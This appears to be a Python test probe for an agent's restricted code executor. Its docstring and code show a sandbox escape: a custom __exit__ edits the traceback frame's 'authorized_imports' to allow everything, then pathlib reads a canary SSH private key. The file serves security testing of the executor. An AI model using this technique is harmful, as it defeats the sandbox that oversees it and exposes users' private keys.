"""Walk from an error to the executor's own variables.

Attempts:  change the list of allowed imports, which is found in the frames of a traceback, handed to __exit__ of a class
           of its own (the statement named in CVE-2026-4963).
Success:   pathlib can be imported, and the canary key is read with it.
Proof:     canary ssh
Runs:      executor
Executor:  lets it through: it is not a security boundary, as its authors say. Here the program reads the key
Container: own file system (FileNotFoundError)
"""


class Catch:
    def __enter__(self):
        return self

    def __exit__(self, kind, error, trace):
        trace.tb_frame.f_locals["authorized_imports"].append("*")
        return True


with Catch():
    1 / 0
import pathlib

print(pathlib.Path(target["home"], ".ssh/id_ed25519").read_text())
